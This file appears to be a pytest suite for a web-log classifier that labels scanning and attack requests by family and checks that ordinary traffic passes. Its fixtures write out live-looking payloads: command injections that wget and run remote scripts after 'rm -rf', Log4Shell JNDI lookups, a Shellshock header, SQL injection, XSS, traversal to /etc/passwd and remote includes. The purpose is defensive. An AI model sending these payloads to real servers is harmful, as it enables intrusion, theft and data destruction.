@@ -1,0 +1,229 @@
+"""Probe rules: every family fires on a real-looking attack and stays quiet on ordinary traffic."""
+
+from __future__ import annotations
+
+import pytest
+from classify_util import rec
+
+from logwatch.classify import PROBE_FAMILIES, Classifier
+from logwatch.classify.probes import ProbeRules, load_probe_data
+from logwatch.model import BOT, HUMAN
+
+GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
+
+
+def families(**kw: object) -> tuple[str, ...]:
+    return Classifier().classify(rec(**kw)).probe_rules  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize(
+    ("kw", "family"),
+    [
+        ({"path": "/.env"}, "secret-file"),
+        ({"path": "/app/.env.production"}, "secret-file"),
+        ({"path": "/.git/config"}, "secret-file"),
+        ({"path": "/.git/HEAD"}, "secret-file"),
+        ({"path": "/.svn/entries"}, "secret-file"),
+        ({"path": "/.aws/credentials"}, "secret-file"),
+        ({"path": "/.htpasswd", "status": 403}, "secret-file"),
+        ({"path": "/.DS_Store"}, "secret-file"),
+        ({"path": "/id_rsa"}, "secret-file"),
+        ({"path": "/wp-config.php.bak"}, "secret-file"),
+        ({"path": "/index.php~"}, "secret-file"),
+        ({"path": "/config.php.swp"}, "secret-file"),
+        ({"path": "/settings.old"}, "secret-file"),
+        ({"path": "/db/dump.sql"}, "secret-file"),
+        ({"path": "/backup.tar.gz"}, "secret-file"),
+        (
+            {"path": "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "method": "POST"},
+            "exploit-path",
+        ),
+        ({"path": "/boaform/admin/formLogin", "method": "POST"}, "exploit-path"),
+        ({"path": "/HNAP1/"}, "exploit-path"),
+        ({"path": "/_ignition/execute-solution", "method": "POST"}, "exploit-path"),
+        ({"path": "/actuator/env"}, "exploit-path"),
+        ({"path": "/solr/admin/info/system", "query": "wt=json"}, "exploit-path"),
+        ({"path": "/owa/auth/logon.aspx"}, "exploit-path"),
+        ({"path": "/shell.php"}, "exploit-path"),
+        ({"path": "/wp-content/plugins/x/c99.php"}, "exploit-path"),
+        (
+            {
+                "path": "/remote/fgt_lang",
+                "query": "lang=/../../../..//////////dev/cmdb/sslvpn_websession",
+            },
+            "exploit-path",
+        ),
+        ({"path": "/wp-login.php", "status": 404}, "admin-probe"),
+        ({"path": "/xmlrpc.php", "status": 404, "method": "POST"}, "admin-probe"),
+        ({"path": "/phpmyadmin/index.php", "status": 404}, "admin-probe"),
+        ({"path": "/administrator/", "status": 403}, "admin-probe"),
+        ({"path": "/webmail/", "status": 404}, "admin-probe"),
+        ({"path": "/../../../../etc/passwd"}, "traversal"),
+        ({"path": "/%2e%2e/%2e%2e/etc/passwd"}, "traversal"),
+        ({"path": "/%252E%252E%252Ffoo1"}, "traversal"),
+        ({"path": "/download", "query": "file=..%2F..%2Fetc%2Fpasswd"}, "traversal"),
+        ({"path": "/view", "query": "page=report.pdf%00.html"}, "traversal"),
+        ({"path": "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "method": "POST"}, "traversal"),
+        ({"path": "/foo", "query": "a=%20union%20all%20select%20"}, "sqli"),
+        ({"path": "/item", "query": "id=1%27%20AND%20SLEEP(5)--"}, "sqli"),
+        ({"path": "/foo", "query": "a=information_schema.tables"}, "sqli"),
+        ({"path": "/item", "query": "id=1+UNION+SELECT+username,password+FROM+users"}, "sqli"),
+        ({"path": "/search", "query": "q=%3Cscript%3Ealert(1)%3C/script%3E"}, "xss"),
+        ({"path": "/search", "query": "q=%22%3E%3Csvg/onload=alert(document.domain)%3E"}, "xss"),
+        ({"path": "/foo", "query": "a=javascript:prompt(1)"}, "xss"),
+        (
+            {"path": "/cgi-bin/ping", "query": "ip=127.0.0.1;wget%20http://1.2.3.4/x.sh"},
+            "shell-injection",
+        ),
+        (
+            {"path": "/shell", "query": "cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/jaws;sh+/tmp/jaws"},
+            "shell-injection",
+        ),
+        (
+            {
+                "path": "/",
+                "agent": "${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/KGN1cmw=}",
+            },
+            "shell-injection",
+        ),
+        (
+            {"path": "/", "referrer": "${jndi:${lower:l}${lower:d}a${lower:p}://x.y/callback}"},
+            "shell-injection",
+        ),
+        ({"path": "/", "agent": "() { :; }; /bin/bash -c 'cat /etc/passwd'"}, "shell-injection"),
+        (
+            {
+                "path": "/index.php",
+                "query": "s=/index/\\think\\app/invokefunction&function=call_user_func_array",
+            },
+            "shell-injection",
+        ),
+        ({"path": "/start.php", "query": "lang=http://cirt.net/rfiinc.txt??"}, "remote-include"),
+        ({"path": "/index.php", "query": "page=http://198.51.100.3/shell.txt"}, "remote-include"),
+        (
+            {
+                "path": "/index.php",
+                "query": "file=php://filter/convert.base64-encode/resource=index",
+            },
+            "remote-include",
+        ),
+        ({"path": "/", "method": "PROPFIND", "status": 405}, "odd-method"),
+        ({"path": "/", "method": "TRACE", "status": 405}, "odd-method"),
+        ({"path": "/", "method": "DEBUG", "status": 405}, "odd-method"),
+        ({"path": "foo.com:25", "method": "CONNECT", "status": 400}, "proxy-attempt"),
+        (
+            {"path": "http://www.sbjudge4.com:80/ip4.php", "protocol": "HTTP/1.0", "status": 400},
+            "proxy-attempt",
+        ),
+        (
+            {
+                "path": "",
+                "method": "",
+                "protocol": "",
+                "request": "\\x16\\x03\\x01\\x00\\xa5\\x01",
+                "status": 400,
+            },
+            "bad-request-line",
+        ),
+        (
+            {"path": "", "method": "", "protocol": "", "request": "SSH-2.0-Go", "status": 400},
+            "bad-request-line",
+        ),
+        (
+            {
+                "path": "",
+                "method": "",
+                "protocol": "",
+                "request": "\\x03\\x00\\x00/*\\xe0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr",
+                "status": 400,
+            },
+            "bad-request-line",
+        ),
+        (
+            {"path": "", "method": "", "protocol": "", "request": "-", "status": 400},
+            "bad-request-line",
+        ),
+        ({"path": "/", "protocol": "HTTP/1.2", "status": 505}, "bad-request-line"),
+        ({"path": "/", "agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}, "scanner-agent"),
+    ],
+)
+def test_probe_families_fire(kw: dict[str, object], family: str) -> None:
+    v = Classifier().classify(rec(**kw))  # type: ignore[arg-type]
+    assert v.probe and family in v.probe_rules, v
+    assert v.cls == BOT
+    assert any(family in r for r in v.reasons)
+
+
+@pytest.mark.parametrize(
+    "kw",
+    [
+        {"path": "/.well-known/acme-challenge/abc123"},
+        {"path": "/.well-known/security.txt"},
+        {"path": "/blog/2024/05/how-to-use-git"},
+        {"path": "/wp-login.php", "status": 200},
+        {"path": "/admin/", "status": 302},
+        {"path": "/login", "query": "next=https://example.com/account"},
+        {"path": "/search", "query": "q=select+a+good+union+rep"},
+        {"path": "/search", "query": "q=rock+%26+roll&page=2"},
+        {"path": "/api/items", "query": "sort=-created&filter=a|b"},
+        {"path": "/SOGo/dav/a@example.org/Calendar/personal/", "method": "REPORT", "status": 207},
+        {"path": "*", "method": "OPTIONS"},
+        {"path": "/", "protocol": "HTTP/2.0"},
+        {"path": "/docs/env-vars.html"},
+        {"path": "/static/app.js.map"},
+    ],
+)
+def test_ordinary_requests_are_not_probes(kw: dict[str, object]) -> None:
+    v = Classifier().classify(rec(**kw))  # type: ignore[arg-type]
+    assert not v.probe, v
+    assert v.cls != BOT
+
+
+def test_admin_paths_only_count_when_refused() -> None:
+    c = Classifier()
+    assert not c.classify(rec("/wp-login.php", status=200)).probe
+    # same path, now answered 404: the path cache must not hide the status rule
+    v = c.classify(rec("/wp-login.php", status=404, client="198.51.100.1"))
+    assert v.probe_rules == ("admin-probe",)
+    assert v.reasons == ("path /wp-login.php → admin-probe probe (wp-login.php)",)
+
+
+def test_probe_by_known_crawler_keeps_its_category() -> None:
+    v = Classifier().classify(rec("/.env", agent=GOOGLEBOT))
+    assert (v.cls, v.bot_category, v.bot_name, v.probe) == (BOT, "search", "Googlebot", True)
+    assert v.reasons[0] == "user agent matches Googlebot → search"
+
+
+def test_probe_by_a_library_or_browser_is_a_scanner() -> None:
+    c = Classifier()
+    v = c.classify(rec("/.env", agent="curl/8.0"))
+    assert (v.bot_category, v.bot_name) == ("scanner", "curl")
+    v = c.classify(rec("/.git/config", client="198.51.100.9"))
+    assert (v.cls, v.bot_category, v.bot_name) == (BOT, "scanner", None)
+    assert v.reasons == ("path /.git/config → secret-file probe (/.git/)",)
+
+
+def test_probe_family_list_matches_the_data() -> None:
+    data = load_probe_data()
+    ids = [f["id"] for f in data["family"]]
+    assert set(ids) <= set(PROBE_FAMILIES)
+    assert len(PROBE_FAMILIES) == len(set(PROBE_FAMILIES))
+    for fam in data["family"]:
+        assert fam.get("source"), f"family {fam['id']} must say where its facts came from"
+
+
+def test_empty_method_and_path_do_not_crash() -> None:
+    c = Classifier()
+    for kw in (
+        {"path": "", "method": "", "protocol": "", "request": ""},
+        {"path": "", "method": "GET", "protocol": "", "request": "GET"},
+        {"path": "x", "method": "get", "protocol": "HTTP/1.1"},
+    ):
+        v = c.classify(rec(**kw))  # type: ignore[arg-type]
+        assert v.cls in (BOT, HUMAN)
+
+
+def test_rules_load_without_the_classifier() -> None:
+    rules = ProbeRules()
+    hits, conditional = rules.path_hits("/.env")
+    assert hits[0][0] == "secret-file" and not conditional
